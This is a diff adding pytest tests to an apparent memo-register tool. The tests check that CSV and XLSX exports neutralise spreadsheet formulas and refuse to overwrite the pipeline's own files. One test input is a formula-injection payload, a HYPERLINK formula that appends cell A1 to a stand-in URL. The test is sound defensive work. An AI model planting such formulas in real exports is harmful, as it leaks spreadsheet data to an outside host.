@@ -375,3 +375,30 @@ def test_brackets_in_data_do_not_break_the_console(ws, cli):
     assert result.exit_code == 0
     assert cli("register").exit_code == 0 and cli("journal").exit_code == 0
     assert jsonl(cli("register", "--json"))[0]["hal"] == "[/] [bold]Permohonan[/bold] [SEGERA]"
+
+
+def test_exports_never_carry_formulas_from_data(ws, cli, tmp_path):
+    tab_memo(ws.inbox / "m.docx", {**HEADER, "Hal": '=HYPERLINK("http://x/"&A1,"klik")',
+                                   "Dari": "+62 ULP", "Nomor": "-1/2026"})
+    cli("run")
+    cli("register", "--buku", "masuk", "--csv", str(tmp_path / "m.csv"), "--xlsx", str(tmp_path / "m.xlsx"))
+    with open(tmp_path / "m.csv", encoding="utf-8-sig", newline="") as handle:
+        row = list(csv.reader(handle, delimiter=";"))[1]
+    assert row[3] == "'+62 ULP" and row[5] == '\'=HYPERLINK("http://x/"&A1,"klik")'
+    sheet = openpyxl.load_workbook(tmp_path / "m.xlsx")["Agenda Masuk"]
+    hal = sheet.cell(row=3, column=6)
+    assert hal.value == '=HYPERLINK("http://x/"&A1,"klik")' and hal.data_type == "s"
+    assert sheet.cell(row=3, column=4).data_type == "s"
+
+
+@pytest.mark.parametrize("target", ["archive/register.sqlite3", "archive/buku.xlsx", "inbox/buku.csv",
+                                    "config.yaml"])
+def test_exports_never_write_over_what_the_pipeline_keeps(ws, cli, target):
+    tab_memo(ws.inbox / "m.docx")
+    cli("run")
+    before = ws.register_path.read_bytes()
+    option = "--csv" if target.endswith(".csv") else "--xlsx"
+    result = cli("register", "--buku", "masuk", option, str(ws.root / target))
+    assert result.exit_code == 1 and "Berkas keluaran" in result.output
+    assert ws.register_path.read_bytes() == before
+    assert not (ws.root / target).exists() or target in ("archive/register.sqlite3", "config.yaml")
